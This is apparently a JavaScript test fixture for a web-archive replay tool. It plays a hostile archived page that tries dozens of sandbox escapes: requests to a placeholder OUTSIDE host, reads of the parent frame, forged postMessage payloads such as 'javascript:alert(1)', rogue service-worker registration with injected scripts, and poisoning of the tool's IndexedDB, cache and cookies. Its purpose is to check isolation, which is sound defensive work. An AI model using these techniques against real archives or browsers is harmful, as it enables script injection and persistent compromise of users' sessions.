// What an archived page might try, in the realm that runs it. Replaced before it is kept: OUTSIDE, a host of the live web,
// WINDOW and ARCHIVE, our origins, TIMESTAMP. Each result is a line "name: what came of it" in `results`.
(async () => {
  const results = (self.results = []);
  const attempt = async (name, act) => {
    try {
      results.push(`${name}: ${await act()}`);
    } catch (error) {
      results.push(`${name}: refused`);
    }
  };
  const add = (tag, attributes, text = "") => {
    const element = document.createElement(tag);
    for (const name in attributes) element.setAttribute(name, attributes[name]);
    element.textContent = text;
    document.documentElement.append(element);
    return element;
  };
  const heard = (target, good, bad) =>
    new Promise((resolve, reject) => {
      target[good] = (event) => resolve(event.data ?? "came");
      target[bad] = reject;
      setTimeout(reject, 700);
    });
  const wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  const at = (path) => `http://${path}.OUTSIDE/${path}`;
  const isBare = !self._wb_wombat; // wombat leads new windows to the frame of the replay, which would end this here
  add("iframe", { name: "aside" });

  // Leaving for the live web.
  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "stylesheet", "icon", "prerender", "manifest"]) {
    add("link", { rel, href: at(rel), as: "script" });
  }
  add("img", { src: at("img") });
  add("img", { srcset: `${at("srcset")} 1x` });
  add("video", { src: at("video"), poster: at("poster"), autoplay: "" });
  add("script", { src: at("script") });
  add("script", { src: at("module"), type: "module" });
  add("iframe", { src: at("iframe") });
  add("object", { data: at("object") });
  add("embed", { src: at("embed") });
  add("style", {}, `@import url(${at("import")}); @font-face { font-family: f; src: url(${at("font")}) } * { font-family: f; background: url(${at("background")}) }`);
  add("script", { type: "speculationrules" }, JSON.stringify({ prefetch: [{ urls: [at("speculated")] }], prerender: [{ urls: [at("prerendered")] }] }));
  await attempt("fetch", () => fetch(at("fetch"), { mode: "no-cors" }));
  await attempt("fetch, no referrer", () => fetch(at("unreferred"), { mode: "no-cors", referrerPolicy: "no-referrer", keepalive: true }));
  await attempt("beacon", () => navigator.sendBeacon(at("beacon"), "data") && "queued");
  await attempt("websocket", () => heard(new WebSocket("ws://websocket.OUTSIDE/"), "onopen", "onerror"));
  await attempt("event source", () => heard(new EventSource(at("events")), "onopen", "onerror"));
  await attempt("webtransport", () => new WebTransport("https://transport.OUTSIDE/").ready);
  // Chromium 156 ends the process of a page that is not allowed it, so where wombat is not the test asks for it last.
  self.rtc = () => attempt("rtc", async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:CANARY" }, { urls: "stun:stun.OUTSIDE:3478" }] });
    connection.createDataChannel("out");
    await connection.setLocalDescription(await connection.createOffer());
    await wait(500);
    return "connected";
  });
  if (!isBare) await self.rtc();
  const script = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  const fetching = (where) => `fetch("${at(where)}", {mode: "no-cors"}).then(() => "left", () => "refused")`;
  await attempt("worker", () => heard(new Worker(script(`${fetching("worker")}.then(postMessage)`)), "onmessage", "onerror"));
  await attempt("shared worker", () => {
    const { port } = new SharedWorker(script(`onconnect = ({ports: [port]}) => ${fetching("shared")}.then((it) => port.postMessage(it))`));
    return heard(port, "onmessage", "onmessageerror");
  });
  add("iframe", { srcdoc: `<img src="${at("srcdoc")}"><script>new WebSocket("ws://srcdoc.OUTSIDE/")<\/script>` });
  add("iframe", { src: `data:text/html,<img src="${at("data")}"><script>new WebSocket("ws://data.OUTSIDE/")<\/script>` });
  add("iframe", { src: `/w/${"0".repeat(32)}/TIMESTAMPif_/http://gone.OUTSIDE/</script><script>new WebSocket("ws://missing.OUTSIDE/")</script>` });
  add("form", { action: at("form"), method: "post", target: "aside" }).submit();
  if (isBare) add("a", { href: "#here", ping: at("ping"), target: "aside" }).click();

  // Reading and steering the window and the page around.
  if (isBare) await attempt("open", () => String(open(at("opened"))));
  await attempt("frames around", () => String(top.length));
  await attempt("opener", () => String(opener));
  for (const [name, other] of [["top", top], ["parent", parent]]) {
    await attempt(`${name} document`, () => other.document.title);
    await attempt(`${name} address`, () => other.location.href);
    await attempt(`${name} sandbox`, () => other.document.querySelector("iframe").removeAttribute("sandbox"));
  }
  // As the archived page itself: what the page around the replay takes for its frame.
  const speak = (isBare ? parent : self).Array.constructor("message", "self.parent.postMessage(message, '*')");
  for (const message of [
    { booted: true },
    { failed: "PWNED" },
    { open: { timestamp: "TIMESTAMP", url: "javascript:alert(1)" } },
    { open: { timestamp: "../x", url: at("message") } },
    { open: { timestamp: "TIMESTAMP", url: `${at("climbs")}/../../../../web/TIMESTAMPid_/http://news.example/` } },
    { open: null },
    { at: "1990-01-01T00:00:00Z", missing: true },
    null,
  ]) {
    speak(message);
    top.postMessage(message, "*");
  }
  for (const where of ["WINDOW/api/v1/outlets", "WINDOW/", "ARCHIVE/", "ARCHIVE/replay/TIMESTAMP/http://news.example/hostile.html"]) {
    await attempt(`fetch ${where}`, () => fetch(where).then((answer) => answer.text()));
    await attempt(`send to ${where}`, () => fetch(where, { method: "POST", mode: "no-cors", credentials: "include" }));
  }
  add("iframe", { src: "WINDOW/", name: "framed" });
  add("script", { src: "WINDOW/api/v1/openapi.json" });
  add("img", { src: "WINDOW/static/icon.svg" });

  // What stays for the next page.
  const containers = navigator.serviceWorker;
  for (const [name, path, scope] of [
    ["archived", `/web/TIMESTAMPir_/http://news.example/evil.js`, `/web/TIMESTAMPir_/http://news.example/`],
    ["replayed", `/w/${"0".repeat(32)}/TIMESTAMPjs_/http://news.example/evil.js`, `/w/${"0".repeat(32)}/`],
    ["ours, set up anew", `/worker.js?root=evil&injectScripts=${at("injected")}&allowProxyPaths=${at("proxied")}`, "/"],
    ["wabac itself", "/wabac/0/sw.js?allowProxyPaths=http://OUTSIDE/", "/wabac/"],
  ]) {
    await attempt(`register ${name}`, () => containers.register(path, { scope }).then(() => "registered"));
  }
  await attempt("tell the worker", () => {
    for (const message of [
      { msg_type: "addColl", name: "0".repeat(32), type: "live", file: { sourceUrl: "proxy:http://OUTSIDE/" }, extraConfig: { prefix: "http://OUTSIDE/", isLive: true } },
      { session: location.pathname.split("/")[2], msg_type: "reload_all" },
      null,
    ]) {
      containers.controller.postMessage(message);
    }
    return "told";
  });
  await wait(300);
  await attempt("by the worker", () => fetch(`/w/${"0".repeat(32)}/TIMESTAMPmp_/${at("added")}`).then((answer) => answer.status));
  await attempt("by its proxy", () => fetch(`/static/proxy/${at("proxied")}`).then((answer) => answer.status));
  await attempt("its interface", () => fetch("/w/api/coll-index").then((answer) => answer.status));
  await attempt("raw captures", () => fetch("/web/TIMESTAMPir_/http://news.example/evil.js").then((answer) => answer.status));
  await attempt("cookies", () => {
    for (const domain of ["", "; Domain=ARCHIVE_HOST", "; Domain=localhost", "; Domain=127.0.0.1"]) {
      document.cookie = `evil=${"x".repeat(3000)}; Path=/${domain}`;
      document.cookie = `palimpsest-archive=evil; Path=/${domain}`;
    }
    return document.cookie.length > 0 ? "set" : "not set";
  });
  await attempt("storage", () => {
    localStorage.setItem("evil", "1");
    sessionStorage.setItem("evil", "1");
    return "kept";
  });
  await attempt("database", () => heard(indexedDB.open("evil"), "onsuccess", "onerror").then(() => "kept"));
  await attempt("wabac's database", async () => {
    const request = indexedDB.open("collDB");
    await heard(request, "onsuccess", "onerror");
    const colls = request.result.transaction("colls", "readwrite").objectStore("colls");
    const extraConfig = { prefix: "http://OUTSIDE/", isLive: true, injectScripts: [at("injected")], csp: "default-src *" };
    colls.put({ name: "evil", type: "live", config: { root: true, dbname: "evil", sourceUrl: "proxy:http://OUTSIDE/", extraConfig } });
    return "written";
  });
  await attempt("cache", async () => {
    const cache = await caches.open("wabac-offline");
    await cache.put("/boot", new Response("<script>parent.postMessage('PWNED', '*')</script>", { headers: { "content-type": "text/html" } }));
    return "kept";
  });
  await attempt("unregister", async () => (await containers.getRegistration()).unregister());
  await wait(500);
  results.push("done");
})();
